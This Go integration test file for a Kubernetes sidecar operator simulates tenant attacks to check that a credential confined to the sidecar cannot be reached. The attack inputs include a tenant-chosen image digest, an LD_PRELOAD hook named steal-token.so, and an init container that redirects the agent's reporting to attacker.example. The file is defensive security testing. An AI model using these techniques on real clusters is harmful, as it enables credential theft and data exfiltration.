package integration

// Review attacks (branch review), as the tenant: pod create rights in one
// namespace, impersonated. A test that FAILS shows a hole: the tenant keeps
// a grant while running what it chose beside a credential confined to the
// sidecar, which docs/security.md (Security model) says cannot happen.

import (
	"context"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"

	"github.com/sidecar-operator/sidecar-operator/api/v1alpha1"
)

// grantOutlives reports whether, with the honestly injected pod deleted,
// the tenant's pod alone keeps the grant and counts as injected.
func grantOutlives(t *testing.T, sc *v1alpha1.Sidecar, ns string) bool {
	t.Helper()
	gi, gu, counted := statusCounts(t, sc, 1, 0, 20*time.Second)
	t.Logf("status: injected=%d unverified=%d", gi, gu)
	return counted && canExec(t, ns, "default", ns)
}

// A copy pins the sidecar's tag to a digest the tenant chooses (any image
// of that repository: an older vulnerable build, a debug build). The
// credential is confined to the sidecar, so no env or mount may be added,
// yet the pin verifies.
func TestReviewPinnedImageOfConfinedSidecarKeepsTheGrant(t *testing.T) {
	ctx := context.Background()
	sc := confinedAgent()
	ns, tenantClient, injected := grantedPod(t, sc)
	const chosen = "@sha256:deadbeefdeadbeefdeadbeefdeadbeefdeadbeefdeadbeefdeadbeefdeadbeef"
	copied := copyOf(injected, injected.Labels, func(c *corev1.Container, _ *corev1.PodSpec) { c.Image += chosen })
	if err := tenantClient.Create(ctx, copied); err != nil {
		t.Logf("blocked: refused: %v", err)
		return
	}
	if err := tenantClient.Delete(ctx, injected); err != nil {
		t.Fatal(err)
	}
	if grantOutlives(t, sc, ns) {
		t.Errorf("HOLE: pod %s runs the confined sidecar as image %s, chosen by the tenant, and its record verifies: %s/default keeps pods/exec",
			copied.Name, copied.Spec.Containers[1].Image, ns)
	} else {
		t.Logf("blocked: the pinned copy does not carry the grant")
	}
}

// A copy mounts the confined Secret into the tenant's app container at a
// subPath of a key it does not hold (the app gets an empty directory), so
// the credential no longer counts as confined, and adds LD_PRELOAD and a
// tenant volume to the sidecar.
func TestReviewDecoyMountUnconfinesTheSidecar(t *testing.T) {
	ctx := context.Background()
	sc := confinedAgent()
	ns, tenantClient, injected := grantedPod(t, sc)
	copied := copyOf(injected, injected.Labels, func(c *corev1.Container, s *corev1.PodSpec) {
		s.Volumes = append(s.Volumes, corev1.Volume{Name: "evil", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}})
		for i := range s.Containers {
			if s.Containers[i].Name == "app" {
				s.Containers[i].VolumeMounts = append(s.Containers[i].VolumeMounts,
					corev1.VolumeMount{Name: "agent-token", MountPath: "/decoy", SubPath: "no-such-key"},
					corev1.VolumeMount{Name: "evil", MountPath: "/evil"})
			}
		}
		c.Env = append(c.Env, corev1.EnvVar{Name: "LD_PRELOAD", Value: "/evil/steal-token.so"})
		c.VolumeMounts = append(c.VolumeMounts, corev1.VolumeMount{Name: "evil", MountPath: "/evil"})
	})
	if err := tenantClient.Create(ctx, copied); err != nil {
		t.Logf("blocked: refused: %v", err)
		return
	}
	if err := tenantClient.Delete(ctx, injected); err != nil {
		t.Fatal(err)
	}
	if grantOutlives(t, sc, ns) {
		t.Errorf("HOLE: pod %s runs LD_PRELOAD=/evil/steal-token.so from a tenant volume in the sidecar that alone reads Secret xxl-job-admin-token "+
			"(the app mounts it only at subPath no-such-key), and its record verifies: %s/default keeps pods/exec", copied.Name, ns)
	} else {
		t.Logf("blocked: the copy does not carry the grant")
	}
}

// No copy at all: the tenant's own pod has an init container that mounts
// the Sidecar's emptyDir. The webhook puts its init container before the
// pod's, and the sidecar is a regular container, so the tenant's init runs
// after the Sidecar's init and before the sidecar, and writes what the
// sidecar reads, beside the credential confined to it.
func TestReviewTenantInitWritesRegularSidecarsVolume(t *testing.T) {
	ctx := context.Background()
	sc := confinedAgent()
	sc.Spec.Volumes = append(sc.Spec.Volumes, corev1.Volume{Name: "agent-work", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}})
	work := corev1.VolumeMount{Name: "agent-work", MountPath: "/work"}
	sc.Spec.InitContainers = []corev1.Container{{Name: sc.Name + "-init", Image: "registry.example.com/xxl-agent-init:1.4.0", VolumeMounts: []corev1.VolumeMount{work}}}
	sc.Spec.Containers[0].VolumeMounts = append(sc.Spec.Containers[0].VolumeMounts, work)
	applyServed(t, sc)
	ns, tenantClient := tenant(t, nil)
	pod, err := selectedPodAs(t, tenantClient, sc, ns, nil)
	if err != nil || !injectedWith(pod, sc.Name) {
		t.Fatalf("test setup: selected pod not injected: %v", err)
	}
	waitBinding(t, sc, ns, ns+"/default")
	if err := tenantClient.Delete(ctx, pod); err != nil {
		t.Fatal(err)
	}
	waitBinding(t, sc, ns)

	p := &corev1.Pod{}
	p.GenerateName, p.Namespace, p.Labels = "app-", ns, map[string]string{"app": sc.Name}
	p.Spec.InitContainers = []corev1.Container{{Name: "prep", Image: "attacker/prep",
		Command:      []string{"sh", "-c", "echo 'report_to: https://attacker.example' > /work/agent.yaml"},
		VolumeMounts: []corev1.VolumeMount{work}}}
	p.Spec.Containers = []corev1.Container{{Name: "app", Image: "app"}}
	if err := tenantClient.Create(ctx, p); err != nil {
		t.Logf("blocked: refused: %v", err)
		return
	}
	var names []string
	for _, c := range p.Spec.InitContainers {
		names = append(names, c.Name)
	}
	t.Logf("admitted %s: initContainers %v", p.Name, names)
	if !injectedWith(p, sc.Name) {
		t.Logf("blocked: not injected")
		return
	}
	if grantOutlives(t, sc, ns) {
		t.Errorf("HOLE: pod %s runs the tenant's init container %q, which writes the sidecar's emptyDir after the Sidecar's init and before the sidecar "+
			"(which alone reads Secret xxl-job-admin-token), and its record verifies: %s/default has pods/exec", p.Name, "prep", ns)
	} else {
		t.Logf("blocked: no grant")
	}
}
